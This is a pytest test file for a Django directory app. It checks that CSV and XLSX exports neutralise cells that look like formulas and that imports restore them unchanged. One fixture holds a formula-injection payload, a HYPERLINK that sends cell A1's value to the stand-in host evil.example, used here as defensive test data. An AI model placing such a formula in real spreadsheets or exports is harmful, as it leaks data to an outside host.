"""Text that looks like a spreadsheet formula is exported as text, and imported back unchanged."""

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from directory.exporters import neutralise_formula, unquote_formula
from directory.models import Organization
from tests.directory.factories import OrganizationFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def export(fmt, tmp_path) -> bytes:
    path = tmp_path / f"export.{fmt}"
    call_command("export_directory", "--format", fmt, "--output", str(path), stderr=io.StringIO())
    return path.read_bytes()


def test_xlsx_writes_a_formula_lookalike_as_a_text_cell(tmp_path):
    OrganizationFactory(name=EVIL, description_sv="+SUM(1,2)")
    workbook = load_workbook(io.BytesIO(export("xlsx", tmp_path)))
    cells = [cell for row in workbook["organisations"].iter_rows(min_row=2) for cell in row]
    assert {cell.value for cell in cells} >= {EVIL, "+SUM(1,2)"}
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_csv_cells_never_begin_with_a_formula_sign(tmp_path):
    OrganizationFactory(name=EVIL, description_sv="@cmd", email="")
    rows = list(csv.reader(io.StringIO(export("csv", tmp_path).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_lookalikes_survive_export_and_import(tmp_path, fmt):
    OrganizationFactory(name=EVIL, slug="evil", description_sv="- en punkt", description_en="'=quoted")
    path = tmp_path / f"export.{fmt}"
    path.write_bytes(export(fmt, tmp_path))
    Organization.objects.all().delete()
    call_command("import_directory", str(path), stdout=io.StringIO())
    org = Organization.objects.get(slug="evil")
    assert (org.name, org.description_sv, org.description_en) == (EVIL, "- en punkt", "'=quoted")


@pytest.mark.parametrize("value", ["=1", "'=1", "''=1", "'", "'a", "plain", "", "\t1", "-"])
def test_neutralising_is_undone_exactly(value):
    assert unquote_formula(neutralise_formula(value)) == value
